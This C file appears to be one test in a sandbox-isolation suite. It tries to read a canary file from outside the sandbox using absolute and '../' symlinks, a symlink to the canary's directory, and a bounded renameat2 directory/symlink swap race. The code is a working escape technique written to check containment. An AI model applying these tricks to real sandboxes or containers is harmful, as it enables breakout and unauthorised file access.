/* FS-02 (filesystem): symlink escape.
 * Variants: (1) symlink("<canary>", "l-abs"); (2) symlink("../../.."x, "up")
 * then up/<canary>; (3) a symlink to the canary's directory; (4) a bounded
 * dir<->symlink swap race (rename loop in a forked child, native only).
 * Native: all resolve on the host -> TOKEN. Blocked: links resolve inside the
 * container's mount namespace / WASI refuses to follow outside the preopen. */
#include "common.h"
#ifndef __wasi__
#include <signal.h>
#include <sys/wait.h>
#endif

int main(int argc, char **argv) {
  if (argc < 3) { printf("usage: fs-02 <canary> <canary_dir>\n"); return ATK_INCONCLUSIVE; }
  const char *canary = argv[1], *cdir = argv[2], *wd = atk_workdir();
  const char *base = strrchr(canary, '/') ? strrchr(canary, '/') + 1 : canary;
  char l1[600], l2[600], l3[600], p[4096], up[256];
  int leaked = 0;
  snprintf(l1, sizeof l1, "%s/isola-fs02-abs", wd);
  snprintf(l2, sizeof l2, "%s/isola-fs02-up", wd);
  snprintf(l3, sizeof l3, "%s/isola-fs02-dir", wd);
  unlink(l1); unlink(l2); unlink(l3);
  printf("INFO:symlink abs -> %s\n", symlink(canary, l1) == 0 ? "OK" : atk_errname(errno));
  leaked |= atk_try_read("symlink-abs", l1);
  atk_dotdot(up, sizeof up, "", 20);
  printf("INFO:symlink up -> %s\n", symlink(up, l2) == 0 ? "OK" : atk_errname(errno));
  snprintf(p, sizeof p, "%s/%s", l2, canary[0] == '/' ? canary + 1 : canary);
  leaked |= atk_try_read("symlink-up", p);
  printf("INFO:symlink dir -> %s\n", symlink(cdir, l3) == 0 ? "OK" : atk_errname(errno));
  snprintf(p, sizeof p, "%s/%s", l3, base);
  leaked |= atk_try_read("symlink-dir", p);
#ifndef __wasi__
  /* (4) swap race: a child flips "race" between a real dir and a symlink. */
  char race[600], rdir[600], rlnk[600];
  snprintf(race, sizeof race, "%s/isola-fs02-race", wd);
  snprintf(rdir, sizeof rdir, "%s/isola-fs02-rdir", wd);
  snprintf(rlnk, sizeof rlnk, "%s/isola-fs02-rlnk", wd);
  (void)rlnk;
  unlink(race); rmdir(rdir); mkdir(rdir, 0700);
  printf("INFO:race symlink -> %s\n", symlink(cdir, race) == 0 ? "OK" : atk_errname(errno));
  pid_t c = fork();
  if (c == 0) { /* RENAME_EXCHANGE (2) flips dir<->symlink, bounded */
    for (int i = 0; i < 200000; i++) syscall(SYS_renameat2, AT_FDCWD, rdir, AT_FDCWD, race, 2);
    _exit(0);
  }
  snprintf(p, sizeof p, "%s/%s", race, base);
  int won = 0;
  for (int i = 0; i < 20000 && !won; i++) { char b[512]; long n = atk_read_file(p, b, sizeof b); if (n > 0) { won = 1; printf("INFO:race won at try %d\n", i); atk_token(b, n); } }
  if (c > 0) { kill(c, SIGKILL); waitpid(c, NULL, 0); }
  leaked |= won;
  unlink(race); rmdir(race); unlink(rdir); rmdir(rdir);
#endif
  unlink(l1); unlink(l2); unlink(l3);
  return leaked ? ATK_ACHIEVED : ATK_BLOCKED;
}
